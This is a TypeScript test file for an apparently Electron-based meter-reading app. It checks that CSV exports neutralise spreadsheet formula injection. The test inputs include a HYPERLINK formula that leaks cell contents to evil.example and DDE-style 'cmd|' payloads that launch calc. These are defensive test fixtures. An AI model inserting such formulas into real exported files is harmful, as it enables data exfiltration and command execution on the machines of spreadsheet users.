/**
 * CSV injection (issue 18, OWASP): text from route files that a spreadsheet would run as a formula
 * leaves the export as text; exact decimals stay numbers.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { neutraliseCell } from '../../../electron/services/exports/csvCells';
import { runExport } from '../../../electron/services/exports/runExport';
import { seedWorkedDay } from '../../../electron/services/demo/workedDay';
import { openStore } from '../../../electron/services/store';
import { useTempDir } from '../../support/tempDir';

const supervisor = { name: 'Sam', role: 'supervisor' } as const;

describe('CSV cells a spreadsheet would run', () => {
  const tempDir = useTempDir();

  it('prefixes =, +, -, @, tab and CR with a quote; numbers in numeric columns stay numbers', () => {
    for (const formula of ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", '-2+3+cmd|x', '@SUM(1+1)*cmd|x', '\t=1+1', '\r=1+1']) {
      expect(neutraliseCell(formula, false)).toBe(`'${formula}`);
      expect(neutraliseCell(formula, true)).toBe(`'${formula}`);
    }
    expect(neutraliseCell('-3.5', true)).toBe('-3.5');
    expect(neutraliseCell('-3.5', false)).toBe("'-3.5");
    expect(neutraliseCell('-', true)).toBe("'-");
    expect(neutraliseCell('1 Main St', false)).toBe('1 Main St');
  });

  it('an export of a route whose addresses and labels carry formulas writes them as text', async () => {
    const dir = tempDir();
    const store = openStore(join(dir, 'f.db'));
    seedWorkedDay(store, join(dir, 'photos'));
    // As a route file would bring them: an address, a register label and a serial with formulas.
    store.db.prepare(`UPDATE usage_points SET address = '=HYPERLINK("http://evil.example/?"&A1,"Open")' WHERE id = 'UP-1001'`).run();
    store.db.prepare(`UPDATE registers SET label = '@SUM(1+1)*cmd|'' /C calc''!A0'`).run();
    store.db
      .prepare(
        `UPDATE end_devices SET serial_number = '+cmd|x' WHERE id = (SELECT end_device_id FROM reading_sets WHERE usage_point_id = 'UP-1001' LIMIT 1)`,
      )
      .run();
    const readingId = store.db
      .prepare(`SELECT r.id FROM readings r JOIN reading_sets rs ON rs.id = r.reading_set_id WHERE rs.usage_point_id = 'UP-1002' LIMIT 1`)
      .pluck()
      .get() as number;
    store.db.prepare('UPDATE readings SET value = ? WHERE id = ?').run('-3.5', readingId);
    try {
      const { path } = await runExport(store, supervisor, 'csv', {}, join(dir, 'out.csv'));
      const rows = parse(readFileSync(path, 'utf8'), { columns: true }) as Record<string, string>[];
      const up1 = rows.filter((r) => r.usage_point === 'UP-1001');
      expect(up1.length).toBeGreaterThan(0);
      for (const r of up1) {
        expect(r.address).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Open")`);
        expect(r.meter_serial).toBe(`'+cmd|x`);
      }
      for (const r of rows) expect(r.register).toBe(`'@SUM(1+1)*cmd|' /C calc'!A0`);
      expect(rows.find((r) => r.reading_id === String(readingId))?.value).toBe('-3.5');
      // No cell of the file starts a formula.
      for (const r of rows)
        for (const cell of Object.values(r)) expect(/^[=+@\t\r]/.test(cell) || (/^-/.test(cell) && cell !== '-3.5'), cell).toBe(false);
    } finally {
      store.close();
    }
  });
});
